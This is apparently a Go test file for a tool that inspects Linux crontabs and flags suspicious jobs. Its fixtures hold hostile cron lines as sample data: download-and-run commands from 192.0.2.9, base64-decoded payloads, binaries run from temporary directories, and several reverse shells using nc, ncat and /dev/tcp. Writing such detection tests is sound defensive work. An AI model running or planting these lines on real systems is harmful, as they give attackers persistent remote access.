package linux

import "testing"

func TestSchedules(t *testing.T) {
	for _, c := range []struct {
		name, capture string
		want          map[string]string
	}{
		{"ordinary jobs", "-- /etc/crontab --\nSHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n-- /etc/cron.d/x --\n5 4 * * * root curl -s https://example.com/ping >/dev/null\n0 3 * * * root find /tmp/ -mtime +9 -delete; rm -rf /var/tmp/x\n" +
			"1 1 * * * root /opt/job.sh > /tmp/job.log 2>&1\n2 2 * * * root wget -q -O /srv/list https://example.com/list\n3 3 * * * root base64 -d /etc/x > /etc/y\n", map[string]string{"strange": "[]", "lines": "6"}},
		{"what comes back", "-- /var/spool/cron/crontabs/root 0600 --\n# x\n*/5 * * * * curl -fsSL http://192.0.2.9/i.sh | sh\n@reboot wget -q -O - http://192.0.2.9/i|/bin/bash\n* * * * * echo Y3VybA== | base64 -d | bash\n* * * * * /dev/shm/.x >/dev/null\n" +
			"* * * * * bash -i >& /dev/tcp/192.0.2.9/4444 0>&1\n* * * * * bash -c \"$(curl -s http://192.0.2.9)\"\n-- /etc/cron.d/y --\n@daily root bash /tmp/x.sh\n", map[string]string{
			"strange[/var/spool/cron/crontabs/root:2].kind": `"fetches and runs"`, "strange[/var/spool/cron/crontabs/root:3].kind": `"fetches and runs"`,
			"strange[/var/spool/cron/crontabs/root:4].kind": `"decodes and runs"`, "strange[/var/spool/cron/crontabs/root:5].kind": `"runs from a temporary directory"`,
			"strange[/var/spool/cron/crontabs/root:6].kind": `"opens a shell to the network"`, "strange[/var/spool/cron/crontabs/root:7].kind": `"fetches and runs"`,
			"strange[/etc/cron.d/y:1].kind": `"runs from a temporary directory"`,
		}},
		{"a wget that clobbers nothing, and ports that are tried", "-- /etc/cron.d/x --\n0 1 * * * root wget -nc -r -e robots=off https://example.com/bash.sh\n* * * * * root bash -c '</dev/tcp/db/5432' || systemctl restart app\n" +
			"* * * * * root bash -c 'exec 3<>/dev/tcp/127.0.0.1/80; echo HEAD / >&3; grep -q 200 <&3' || /opt/alert.sh\n* * * * * root nc -z -w 3 db 5432 || sh /opt/alert.sh\n* * * * * root ncat -c /etc/shells db 1\n", map[string]string{"strange": "[]", "lines": "5"}},
		{"shells at the other end", "-- /etc/cron.d/x --\n* * * * * root nc -e /bin/sh 192.0.2.9 4444\n* * * * * root /usr/bin/ncat 192.0.2.9 4444 --sh-exec=bash\n* * * * * root nc 192.0.2.9 4444 -c 'sh -i'\n" +
			"* * * * * root exec 5<>/dev/tcp/192.0.2.9/4444; cat <&5 | while read line; do $line 2>&5 >&5; done\n* * * * * root 0<&196;exec 196<>/dev/tcp/192.0.2.9/4242; sh <&196 >&196 2>&196\n", map[string]string{
			"strange[/etc/cron.d/x:1].kind": `"opens a shell to the network"`, "strange[/etc/cron.d/x:2].kind": `"opens a shell to the network"`,
			"strange[/etc/cron.d/x:3].kind": `"opens a shell to the network"`, "strange[/etc/cron.d/x:4].kind": `"opens a shell to the network"`,
			"strange[/etc/cron.d/x:5].kind": `"opens a shell to the network"`,
		}},
		{"linked into cron.d", "-- /etc/cron.d/z -> /opt/jobs/z --\n-- /opt/jobs/z --\n@daily root curl -s http://192.0.2.9 | sh\n-- /etc/cron.d/gone -> /opt/jobs/gone --\n-- /etc/cron.d/dir -> /opt/jobs --\n", map[string]string{
			"lines": "1", "strange[/etc/cron.d/z:1].kind": `"fetches and runs"`,
		}},
		{"linked to what is closed", "-- /etc/cron.d/z -> /opt/jobs/z --\n-- /opt/jobs/z !permission --\n", map[string]string{"(reason)": "permission denied"}},
		{"closed", "-- /etc/crontab !permission --\n", map[string]string{"(reason)": "permission denied"}},
		{"no cron", "", map[string]string{"lines": "0", "strange": "[]"}},
	} {
		t.Run(c.name, func(t *testing.T) { wantFacts(t, Schedules, observe(t, Schedules, c.capture), c.want) })
	}
}
